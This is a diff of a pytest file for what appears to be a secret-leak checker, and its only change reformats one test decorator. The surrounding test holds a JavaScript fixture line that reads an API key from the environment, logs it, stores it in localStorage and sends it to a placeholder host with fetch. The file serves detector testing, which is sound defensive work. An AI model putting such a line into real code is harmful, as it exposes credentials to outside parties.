@@ -125,7 +125,9 @@ def test_what_only_looks_alike_is_left_alone(path: str, code: str) -> None:
     assert "MG404" not in codes(first + comment + (f"\n==={rest}" if rest else ""), path)
 
 
-@pytest.mark.parametrize("text", ["import { Monei } from '@monei-js/node-sdk';", "const u = 'https://api.monei.com/v1';"])
+@pytest.mark.parametrize(
+    "text", ["import { Monei } from '@monei-js/node-sdk';", "const u = 'https://api.monei.com/v1';"]
+)
 def test_a_project_of_the_other_company_is_left_alone(text: str) -> None:
     leak = "\nconst k = process.env.MONEI_API_KEY;\nconsole.log(k); localStorage.setItem('k', k); fetch(`https://x/?k=${k}`);"
     assert codes(text + leak, "src/a.js") == []
